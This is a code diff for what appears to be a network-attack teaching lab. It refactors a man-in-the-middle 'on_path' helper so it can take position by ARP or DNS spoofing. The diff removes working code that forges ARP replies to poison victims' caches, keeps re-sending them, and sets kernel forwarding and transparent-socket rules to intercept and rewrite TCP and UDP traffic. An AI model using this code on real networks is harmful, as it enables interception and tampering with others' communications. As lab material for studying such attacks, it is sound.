@@ -1,32 +1,21 @@
-"""Getting on the path, and holding what comes by: what the attacks of position `on-path` share.
+"""Holding what comes by: what the attacks of position `on-path` share.
 
-On the LAN this is the real thing. Mallory tells each host that every other host's address is at her own MAC address
-(ARP, RFC 826, believes whoever speaks), so all frames come to her; she forwards what she does not want, and lets
-her kernel hand her the TCP connections that she does (policy routing and IP_TRANSPARENT: nothing is installed, and
-both ends keep seeing each other's addresses). On loopback the bench hands her the relay instead.
+On the LAN the position is taken, in one of the ways of `attacks.position`; all frames then come to Mallory, her kernel
+forwards what she does not want and hands her what she does. On loopback the bench hands her the relay instead.
 """
 
 import asyncio
 import contextlib
 import socket
-from collections.abc import AsyncIterator, Callable, Coroutine, Iterator
-from functools import cache
-from itertools import permutations
-from typing import Any, Final
+from collections.abc import AsyncIterator, Callable, Iterator
+from typing import Final
 
 from attacks import Foothold
-from common.dns import PORT as DNS_PORT
-from common.errors import LabError
-from common.hosts import connected
-from common.lan import PLAN, PREFIX, LanHost
+from attacks.intercept import connections, datagrams, tasks
+from attacks.position import forging, position
+from common.lan import LanHost
 from common.loopback import Intercepted, InterceptTcp, InterceptUdp, LoopbackHost
 from common.session import Address
-
-TABLE: Final = "100"
-UDP_TABLE: Final = "101"
-EVERY: Final = 0.2
-"""Seconds between two rounds of forged ARP: any true broadcast repairs a victim's cache, and this undoes the repair."""
-POISON_SECONDS: Final = 5.0
 
 TLS_HANDSHAKE: Final = 0x16
 """The first byte of a TLS connection (RFC 8446, section 5.1); no line of the chat begins with it."""
@@ -38,8 +27,13 @@ Rewrite = Callable[[Piece], list[Piece]]
 
 
 @contextlib.asynccontextmanager
-async def on_path(foothold: Foothold, tcp: InterceptTcp, udp: InterceptUdp | None = None) -> AsyncIterator[None]:
-    """Be between all the hosts until the block ends; then put everything back."""
+async def on_path(
+    foothold: Foothold, tcp: InterceptTcp, udp: InterceptUdp | None = None, way: str = ""
+) -> AsyncIterator[None]:
+    """Be between all the hosts until the block ends; then put everything back.
+
+    way: how to get there, on the LAN; where none is given, as the foothold says, or by ARP.
+    """
     host = foothold.host
     if isinstance(host, LoopbackHost):
         host.network.intercept_tcp, host.network.intercept_udp = tcp, udp
@@ -48,12 +42,39 @@ async def on_path(foothold: Foothold, tcp: InterceptTcp, udp: InterceptUdp | Non
         finally:
             host.network.intercept_tcp = host.network.intercept_udp = None
     elif isinstance(host, LanHost):
-        async with _poisoned(host, foothold.note) as macs, _intercepting(host, foothold.server[1], tcp):
-            with _holding_datagrams(host, macs, udp) if udp else contextlib.nullcontext():
-                yield
+        async with _taken(foothold, host, way or foothold.via or "arp_spoofing", tcp, udp):
+            yield
     else:
         async with _relaying(foothold, tcp):
             yield
+
+
+@contextlib.asynccontextmanager
+async def _taken(
+    foothold: Foothold, host: LanHost, way: str, tcp: InterceptTcp, udp: InterceptUdp | None
+) -> AsyncIterator[None]:
+    name, port = foothold.server
+    server = (await host.resolve(name), port)  # now, while everybody is still told the truth
+    forge = forging(name, host.address, foothold.note) if way == "dns_spoofing" else None
+    came: list[Address] = []
+
+    async def take(intercepted: Intercepted) -> None:
+        came.append(intercepted.client)
+        await tcp(intercepted)
+
+    async with contextlib.AsyncExitStack() as stack:
+        cards = await stack.enter_async_context(position(foothold, host, way))
+        if udp or forge:
+            stack.enter_context(datagrams(host, cards, udp or untouched, forge))
+        await stack.enter_async_context(connections(host, server, take))
+        yield
+        if not came:
+            foothold.missed("not one connection came to her card; what she said was not believed, or nobody asked her")
+
+
+def untouched(payload: bytes, source: Address, target: Address) -> bytes:
+    """Let a datagram go on as it is."""
+    return payload
 
 
 @contextlib.asynccontextmanager
@@ -63,7 +84,7 @@ async def _relaying(foothold: Foothold, tcp: InterceptTcp) -> AsyncIterator[None
     server = foothold.server
 
     async def serve() -> None:
-        async with _tasks() as start:
+        async with tasks() as start:
             while True:
                 sock, client = await asyncio.get_running_loop().sock_accept(listener)
                 start(tcp(Intercepted(sock, client, server, lambda: foothold.host.connect(*server))))
@@ -147,215 +168,3 @@ async def _carry(source: socket.socket, sink: socket.socket, pieces: Pieces, rew
                 await loop.sock_sendall(sink, data)
     with contextlib.suppress(OSError):
         sink.shutdown(socket.SHUT_WR)
-
-
-@contextlib.asynccontextmanager
-async def _intercepting(host: LanHost, port: int, tcp: InterceptTcp) -> AsyncIterator[None]:
-    """Take every TCP connection to this port that comes by; forward all other packets."""
-    host.sysctl("ipv4/ip_forward", "1")
-    for interface in ("all", "eth0"):
-        host.sysctl(f"ipv4/conf/{interface}/send_redirects", "0")  # do not tell the victims a better way
-        host.sysctl(f"ipv4/conf/{interface}/rp_filter", "0")
-    rules = [
-        ["pref", "10", "iif", "eth0", "ipproto", "tcp", end, str(port), "lookup", TABLE] for end in ("dport", "sport")
-    ]
-    host.run("ip", "route", "add", "local", "0.0.0.0/0", "dev", "lo", "table", TABLE)
-    for rule in rules:
-        host.run("ip", "rule", "add", *rule)
-    listener = host.make(socket.SOCK_STREAM, transparent=True)
-    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    listener.bind(("0.0.0.0", port))
-    listener.listen()
-    listener.setblocking(False)
-    accepting = asyncio.create_task(_accept(host, listener, tcp))
-    try:
-        yield
-    finally:
-        accepting.cancel()
-        with contextlib.suppress(asyncio.CancelledError):
-            await accepting
-        listener.close()
-        for rule in rules:
-            host.run("ip", "rule", "del", *rule)
-        host.run("ip", "route", "flush", "table", TABLE)
-        host.sysctl("ipv4/ip_forward", "0")
-
-
-@contextlib.contextmanager
-def _holding_datagrams(host: LanHost, macs: dict[str, str], udp: InterceptUdp) -> Iterator[None]:
-    """Let the kernel forward no UDP; carry it by hand, frame by frame, through `udp` (DNS goes on untouched)."""
-    from scapy.layers.inet import IP, UDP
-    from scapy.layers.l2 import Ether
-
-    card = host.packet_socket()
-
-    def carry() -> None:
-        try:
-            packet = Ether(card.recv(1 << 16))
-        except BlockingIOError:
-            return
-        if packet.dst != host.mac or UDP not in packet or packet[IP].dst not in macs:
-            return
-        header, payload = packet[UDP], bytes(packet[UDP].payload)
-        if DNS_PORT not in (header.sport, header.dport):
-            source, target = (packet[IP].src, header.sport), (packet[IP].dst, header.dport)
-            carried = udp(payload, source, target)
-            if carried is None:
-                return
-            payload = carried
-        onward = IP(src=packet[IP].src, dst=packet[IP].dst) / UDP(sport=header.sport, dport=header.dport) / payload
-        card.send(bytes(Ether(src=host.mac, dst=macs[packet[IP].dst]) / onward))
-
-    host.run("ip", "route", "add", "blackhole", "default", "table", UDP_TABLE)
-    host.run("ip", "rule", "add", "pref", "9", "iif", "eth0", "ipproto", "udp", "lookup", UDP_TABLE)
-    asyncio.get_running_loop().add_reader(card, carry)
-    try:
-        yield
-    finally:
-        asyncio.get_running_loop().remove_reader(card)
-        card.close()
-        host.run("ip", "rule", "del", "pref", "9")
-        host.run("ip", "route", "flush", "table", UDP_TABLE)
-
-
-async def _accept(host: LanHost, listener: socket.socket, tcp: InterceptTcp) -> None:
-    async def hand_over(sock: socket.socket, client: Address) -> None:
-        server: Address = sock.getsockname()  # a transparent socket's own address is the one that was dialled
-
-        async def dial() -> socket.socket:
-            onward = host.make(socket.SOCK_STREAM, transparent=True)
-            onward.bind((client[0], 0))
-            return await connected(onward, *server)
-
-        with sock:
-            sock.setblocking(False)
-            await tcp(Intercepted(sock, client, server, dial))
-
-    async with _tasks() as start:
-        while True:
-            sock, client = await asyncio.get_running_loop().sock_accept(listener)
-            start(hand_over(sock, client))
-
-
-@contextlib.asynccontextmanager
-async def _tasks() -> AsyncIterator[Callable[[Coroutine[Any, Any, None]], None]]:
-    """Start tasks; end those that still run when the block ends."""
-    running: set[asyncio.Task[None]] = set()
-
-    def start(work: Coroutine[Any, Any, None]) -> None:
-        running.add(asyncio.create_task(work))
-
-    try:
-        yield start
-    finally:
-        for task in running:
-            task.cancel()
-        for result in await asyncio.gather(*running, return_exceptions=True):
-            if isinstance(result, Exception) and not isinstance(result, LabError):
-                raise result
-
-
-@contextlib.asynccontextmanager
-async def _poisoned(host: LanHost, note: Callable[[str], None]) -> AsyncIterator[dict[str, str]]:
-    """Keep every victim's ARP cache pointing at us, and give their true MAC addresses; at the end, restore.
-
-    All pairs, not only members and server: a victim that has an entry for everyone never asks by broadcast, and a
-    broadcast would repair the others.
-    """
-    victims = {name: f"{PREFIX}.{byte}" for name, byte in PLAN.items() if name not in (host.name, "eve")}
-    with host.packet_socket() as card:
-        macs = await _true_macs(host, card, list(victims.values()))
-        pairs = list(permutations(victims.values(), 2))
-        forged = [frame for victim, other in pairs for frame in _arp(victim, macs[victim], other, host.mac, host.mac)]
-        restored = [
-            frame for victim, other in pairs for frame in _arp(victim, macs[victim], other, macs[other], host.mac)
-        ]
-        await _until_answered(card, host, forged, set(pairs))
-        note(f"ARP: told {len(victims)} hosts that all the others are at {host.mac}, and they answered there")
-        keeping = asyncio.create_task(_keep(card, forged))
-        try:
-            yield macs
-        finally:
-            keeping.cancel()
-            _send(card, restored)
-
-
-@cache
-def _arp(victim: str, victim_mac: str, other: str, other_mac: str, sender_mac: str) -> list[bytes]:
-    """Three ways of saying to `victim` "`other` is at `other_mac`": no single one is believed in every state.
-
-    A request makes an entry where there was none; a gratuitous request and a reply override one that there was
-    (Linux, net.ipv4.conf.*.arp_accept=0).
-    """
-    from scapy.layers.l2 import ARP, Ether
-
-    ether = Ether(src=sender_mac, dst=victim_mac)
-    return [
-        bytes(ether / ARP(op=1, hwsrc=other_mac, psrc=other, pdst=victim)),
-        bytes(ether / ARP(op=1, hwsrc=other_mac, psrc=other, pdst=other)),
-        bytes(ether / ARP(op=2, hwsrc=other_mac, psrc=other, pdst=victim, hwdst=victim_mac)),
-    ]
-
-
-async def _true_macs(host: LanHost, card: socket.socket, addresses: list[str]) -> dict[str, str]:
-    """Ask the ordinary way who has these addresses."""
-    from scapy.layers.l2 import ARP, Ether
-
-    questions = [
-        bytes(Ether(src=host.mac, dst="ff:ff:ff:ff:ff:ff") / ARP(hwsrc=host.mac, psrc=host.address, pdst=address))
-        for address in addresses
-    ]
-    macs: dict[str, str] = {}
-
-    def take(arp: Any) -> bool:
-        macs[arp.psrc] = arp.hwsrc
-        return set(addresses) <= set(macs)
-
-    await _answers(card, host, questions, take)
-    return macs
-
-
-async def _until_answered(card: socket.socket, host: LanHost, forged: list[bytes], pairs: set[tuple[str, str]]) -> None:
-    """Send the forged frames until each victim has answered, to us, the request that pretended to be each other host:
-    the event that shows that it was believed."""
-    missing = set(pairs)
-
-    def take(arp: Any) -> bool:
-        missing.discard((arp.psrc, arp.pdst))
-        return not missing
-
-    await _answers(card, host, forged, take)
-
-
-async def _answers(card: socket.socket, host: LanHost, frames: list[bytes], take: Callable[[Any], bool]) -> None:
-    """Send frames, again every EVERY seconds, and give `take` each ARP reply to us until it is content."""
-    from scapy.layers.l2 import ARP, Ether
-
-    async def listen() -> None:
-        loop = asyncio.get_running_loop()
-        while True:
-            packet = Ether(await loop.sock_recv(card, 1 << 16))
-            if ARP in packet and packet[ARP].op == 2 and packet.dst == host.mac and take(packet[ARP]):
-                return
-
-    listening = asyncio.create_task(listen())
-    try:
-        async with asyncio.timeout(POISON_SECONDS):
-            while not listening.done():
-                _send(card, frames)
-                await asyncio.wait([listening], timeout=EVERY)
-    except TimeoutError:
-        raise LabError("The hosts do not answer ARP; the attack cannot get on the path.") from None
-    finally:
-        listening.cancel()
-
-
-async def _keep(card: socket.socket, forged: list[bytes]) -> None:
-    while True:
-        await asyncio.sleep(EVERY)
-        _send(card, forged)
-
-
-def _send(card: socket.socket, frames: list[bytes]) -> None:
-    for frame in frames:
-        card.send(frame)
